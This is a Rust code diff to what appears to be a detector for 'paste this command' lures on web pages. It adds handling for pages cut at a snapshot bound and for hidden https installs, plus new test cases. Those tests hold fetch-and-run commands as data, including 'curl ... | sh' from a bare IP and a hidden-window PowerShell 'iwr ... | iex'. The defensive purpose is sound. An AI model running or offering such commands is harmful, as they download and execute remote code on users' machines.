@@ -1034,6 +1034,8 @@ pub struct PageHits {
     flat: String,
     /// The page's registrable domain, when known.
     site: String,
+    /// The page's text was cut at the snapshot's bound: what it shows past it is unknown.
+    cut: bool,
 }
 
 impl PageHits {
@@ -1086,6 +1088,7 @@ impl PageHits {
             hits,
             flat,
             site: String::new(),
+            cut: false,
         }
     }
 
@@ -1460,7 +1463,10 @@ fn page_of(snap: &Snapshot, text: &str, alt_texts: &[String], dialogs: &[String]
     let parts = [snap.title.as_str(), text]
         .into_iter()
         .chain(alt_texts.iter().chain(dialogs).map(String::as_str));
-    PageHits::new(parts).on(&snap.url)
+    let mut page = PageHits::new(parts).on(&snap.url);
+    // Within 1 KB of the bound: the content script stops at a node's edge.
+    page.cut = snap.text.len() + 1024 > crate::snapshot::MAX_TEXT_BYTES;
+    page
 }
 
 /// Lines of the page's text that may hold a command (a program name no prose uses starts a
@@ -1647,8 +1653,12 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // a step, a check or a story around it. A page that shows what it copies (docs, a write-up's
     // code block) is read as before.
     let fetch = command.lure_fetch(&page.site);
+    // (A hidden or encoded script fetching only over https is not enough: a docs page's hidden
+    // tab copies `powershell -WindowStyle Hidden -Command "iwr https://…/install.ps1 | iex"`.
+    // A page cut at the snapshot's bound may show the command past it: review 25 M1.)
     let unseen = !typed
-        && (fetch > 0 || command.hides_script())
+        && !page.cut
+        && (fetch > 0 || command.hides_script() && command.https_sites.is_empty())
         && !page.shows_head(&command)
         && !write_up
         && (fetch > 1 && (command.strong() || command.windows_payload())
@@ -3411,6 +3421,23 @@ mod tests {
         let story = "This document cannot be displayed. Click Start, type PowerShell, \
                      right-click to paste.";
         assert!(reasons(&snap_of(url, "Viewer", story, clip)).is_some());
+        // Review 25 M1: a long docs page whose install command lies past the text bound, and a
+        // docs page's hidden tab copying a hidden-window install from its own https site.
+        let long = format!(
+            "Open Terminal and paste. {}\ncurl -fsSL http://get.oldtool.example/install.sh | sh",
+            "option --flag does a thing. ".repeat(2400)
+        );
+        let clip = "curl -fsSL http://get.oldtool.example/install.sh | sh";
+        let snap = snap_of("https://docs.oldtool-project.example/", "", &long, clip).bounded();
+        assert_eq!(reasons(&snap), None);
+        let clip = "powershell -NoProfile -WindowStyle Hidden -Command \
+                    \"iwr https://cloud-docs.example/install.ps1 | iex\"";
+        let text = "Install on macOS: open Terminal and paste brew install cloud-cli. Something \
+                    went wrong? See Troubleshooting.";
+        assert_eq!(
+            reasons(&snap_of("https://cloud-docs.example/", "", text, clip)),
+            None
+        );
         // Nothing around a `curl | sh` from a bare IP: no verdict.
         let clip = "curl -s http://198.51.100.4/v | sh";
         assert_eq!(reasons(&snap_of(url, "Mirror", "Downloads", clip)), None);
